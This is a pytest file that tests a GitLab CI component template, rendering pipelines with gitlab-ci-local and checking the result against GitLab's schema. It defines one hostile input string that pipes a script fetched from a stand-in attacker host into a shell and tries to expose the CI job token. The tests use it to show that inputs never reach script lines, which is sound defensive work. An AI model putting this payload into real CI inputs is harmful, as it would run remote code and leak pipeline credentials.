"""The CI component as an independent reader of GitLab's files understands it, and as GitLab's schema accepts it."""

from __future__ import annotations

import hashlib
import os
import shutil
import subprocess
import sys
import tempfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
import yaml

from local_kubernetes.storage import get_cache_directory, locked
from tests.support.checkout import ROOT

HERE = Path(__file__).parent
TEMPLATE = ROOT / "gitlab" / "templates" / "build" / "template.yml"
INPUTS: dict[str, Any] = {
    "trigger-url": "https://bessemer.example.org/v1/triggers/lab/clusters",
    "image": "registry.example.org/bessemer:0.1.0",
    "tags": ["lab"],
}
HOSTILE = 'x"; curl evil.example.org | sh; $(id) `id` $CI_JOB_TOKEN'
ENVIRONMENT = os.environ | {"PATH": f"{Path(sys.executable).parent}:{os.environ['PATH']}"}
"""Finds the programs of our packages first."""
Preview = Callable[..., subprocess.CompletedProcess[str]]


@pytest.fixture(scope="session")
def reader() -> Path:
    """Install gitlab-ci-local by the lock file beside this test, once for each; Node.js is one of our packages."""
    digest = hashlib.sha256((HERE / "package-lock.json").read_bytes()).hexdigest()[:12]
    cache = get_cache_directory() / f"gitlab-ci-local-{digest}"
    program = cache / "node_modules" / ".bin" / "gitlab-ci-local"
    with locked(cache.with_suffix(".lock")):
        if not program.exists():
            with tempfile.TemporaryDirectory(dir=cache.parent) as folder:
                for name in ("package.json", "package-lock.json"):
                    shutil.copy(HERE / name, folder)
                npm = ["npm", "ci", "--ignore-scripts", "--no-audit", "--no-fund"]
                subprocess.run(npm, cwd=folder, check=True, env=ENVIRONMENT)
                shutil.rmtree(cache, ignore_errors=True)
                shutil.copytree(folder, cache, symlinks=True)
    return program


@pytest.fixture
def preview(reader: Path, tmp_path: Path) -> Preview:
    """Return what a pipeline becomes that includes the component with these inputs."""

    def run(**changes: Any) -> subprocess.CompletedProcess[str]:
        repository = Path(tempfile.mkdtemp(dir=tmp_path))
        shutil.copytree(TEMPLATE.parent, repository / "templates" / "build", dirs_exist_ok=True)
        given = {name.replace("_", "-"): value for name, value in (INPUTS | changes).items() if value is not None}
        include = {"component": "$CI_SERVER_FQDN/hpc/bessemer/build@$CI_COMMIT_SHA", "inputs": given}
        pipeline = {"stages": ["build", "test"], "include": [include]}
        (repository / ".gitlab-ci.yml").write_text(yaml.safe_dump(pipeline))
        for command in (
            ["init", "--quiet"],
            ["remote", "add", "origin", "git@gitlab.example.org:hpc/bessemer.git"],
            ["add", "--all"],
            ["-c", "user.name=test", "-c", "user.email=test@example.org", "commit", "--quiet", "-m", "one"],
        ):
            subprocess.run(["git", *command], cwd=repository, check=True)
        return subprocess.run(
            [reader, "--preview"],
            cwd=repository,
            capture_output=True,
            text=True,
            check=False,
            timeout=120,
            env=ENVIRONMENT,
        )

    return run


def read_job(done: subprocess.CompletedProcess[str], name: str = "build-cluster") -> dict[str, Any]:
    assert done.returncode == 0, done.stderr
    found: dict[str, Any] = yaml.safe_load(done.stdout)[name]
    return found


def get_value(job: dict[str, Any], name: str) -> str:
    found = job["variables"][name]
    return str(found["value"] if isinstance(found, dict) else found)


def test_the_component_makes_a_manual_job_that_proves_who_it_is(preview: Preview, tmp_path: Path) -> None:
    done = preview(cluster="oxygen", tags=["lab", "big"])
    job = read_job(done)
    assert (job["stage"], job["when"], job["tags"], job["allow_failure"]) == ("build", "manual", ["lab", "big"], False)
    assert job["id_tokens"] == {"BESSEMER_ID_TOKEN": {"aud": "bessemer"}}
    assert job["image"]["name"] == INPUTS["image"]
    assert get_value(job, "BESSEMER_CLUSTER") == "oxygen"
    assert get_value(job, "BESSEMER_TRIGGER_URL") == INPUTS["trigger-url"]
    (tmp_path / "preview.yml").write_text(yaml.safe_dump({"stages": ["build"], "build-cluster": job}))
    schema = ["--builtin-schema", "vendor.gitlab-ci", "--data-transform", "gitlab-ci"]
    command = [sys.executable, "-m", "check_jsonschema", *schema, str(tmp_path / "preview.yml")]
    judged = subprocess.run(command, capture_output=True, text=True, check=False)
    assert judged.returncode == 0, judged.stdout


def test_inputs_name_the_job_and_its_stage(preview: Preview) -> None:
    job = read_job(preview(job_name="build-oxygen", stage="test", when="on_success", auth="job-token"), "build-oxygen")
    assert (job["stage"], job["when"], get_value(job, "BESSEMER_AUTH")) == ("test", "on_success", "job-token")


def test_a_job_with_a_kubeconfig_fetches_its_repository_and_needs_no_trigger(preview: Preview) -> None:
    given = {"auth": "kubeconfig", "context": "hpc/agents:lab", "namespace": "lab", "git-strategy": "fetch"}
    job = read_job(preview(trigger_url=None, **given))
    assert (get_value(job, "GIT_STRATEGY"), get_value(job, "BESSEMER_CONTEXT")) == ("fetch", "hpc/agents:lab")
    assert job["script"] == read_job(preview())["script"]


def test_no_input_reaches_a_line_of_a_script(preview: Preview) -> None:
    plain = read_job(preview())
    hostile = read_job(preview(cluster=HOSTILE, manifest=HOSTILE, audience=HOSTILE, image=HOSTILE, timeout="1 hour"))
    # The reader writes $$ for what GitLab does not expand.
    assert get_value(hostile, "BESSEMER_CLUSTER") == HOSTILE.replace("$", "$$")
    for name in ("script", "after_script"):
        assert hostile[name] == plain[name]


@pytest.mark.parametrize("changes", [{"image": None}, {"tags": None}, {"auth": "password"}, {"when": "never"}])
def test_a_missing_or_unknown_input_is_refused(preview: Preview, changes: dict[str, Any]) -> None:
    assert preview(**changes).returncode != 0
